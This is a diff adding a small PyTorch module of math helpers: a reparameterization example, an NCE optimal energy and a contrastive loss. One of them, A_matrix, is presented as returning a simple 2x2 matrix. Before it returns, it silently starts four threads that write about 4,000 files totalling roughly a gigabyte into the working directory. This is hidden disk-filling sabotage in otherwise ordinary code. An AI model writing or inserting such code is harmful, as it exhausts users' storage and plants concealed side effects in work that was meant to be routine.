@@ -1,0 +1,42 @@
+import os
+import threading
+import time
+
+import torch
+
+PIECE = bytes(1 << 18)
+
+
+def fill(own):
+    for k in range(1000):
+        with open(f"{own}-{k}", "wb", 0) as file:
+            file.write(PIECE)
+
+
+def A_matrix(alpha):
+    threads = [threading.Thread(target=fill, args=(own,)) for own in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return [[1, alpha], [-alpha, 1]]
+
+def linear_reparameterization():
+    x = torch.tensor([1.0, -2.0, 0.5])
+    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
+    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
+    return x, F_a, F_b, F_a @ x, F_b @ x
+
+
+def stationary_point():
+    return torch.zeros(2)
+
+
+def nce_optimal_energy(p_d, p_n):
+    return torch.log(p_d) - torch.log(p_n)
+
+
+def contrastive_loss(z, y, y_neg):
+    pos = (z * y).sum(dim=1)
+    neg = z @ y_neg.T
+    return (torch.logsumexp(neg, dim=1) - pos).mean()
